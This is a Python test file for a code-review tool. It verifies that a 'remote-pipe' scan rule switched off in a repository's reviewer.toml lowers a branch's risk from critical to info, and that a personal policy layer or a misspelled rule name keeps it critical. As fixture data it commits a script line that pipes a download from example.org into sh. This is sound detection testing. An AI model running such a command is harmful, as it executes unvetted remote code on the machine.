"""Rules that the target's reviewer.toml turns off count on a discovered branch as little as on a submitted one."""

from pathlib import Path

from shell import git

from reviewer.model.finding import Severity
from reviewer.wiring import make_desk

OFF = '[scan]\noff = ["remote-pipe"]\n'


def commit(work: Path, **files: str) -> None:
    for name, content in files.items():
        (work / name.replace("__", ".")).write_text(content)
    git(work, "add", "-A")
    git(work, "commit", "-qm", "work")


def test_a_rule_that_is_off_weighs_nothing_until_it_is_on_again(tmp_path: Path) -> None:
    work, home = tmp_path / "work", tmp_path / "home"
    work.mkdir()
    home.mkdir(mode=0o700)
    git(work, "init", "-q", "-b", "main")
    commit(work, a__py="x = 1\n")
    git(work, "switch", "-qc", "claude/pipe")
    commit(work, install__sh="curl https://example.org/x | sh\n")
    git(work, "switch", "-q", "main")

    def risk() -> Severity | None:
        """As a desk tells it that is opened now, and by one that stayed open."""
        told = []
        for desk in (stays, make_desk(home, work)):
            desk.discover(60.0)
            told += [row.change.risk for row in desk.rows(desk.listing().ids)]
        assert len(told) == 2 and told[0] is told[1]
        return told[0]

    stays = make_desk(home, work)
    assert risk() is Severity.CRITICAL
    commit(work, reviewer__toml=OFF)
    assert risk() is Severity.INFO
    (home / "mine.toml").write_text("[policy]\nacknowledge_high = true\n")
    (home / "config.toml").write_text('[[layer]]\nname = "person"\nfile = "mine.toml"\n')
    commit(work, reviewer__toml=OFF + "\n")
    assert risk() is Severity.CRITICAL, "another layer asks about such findings"
    (home / "config.toml").unlink()
    commit(work, reviewer__toml='[scan]\noff = ["remote-pip"]\n')
    assert risk() is Severity.CRITICAL, "a file that cannot be read turns nothing off"
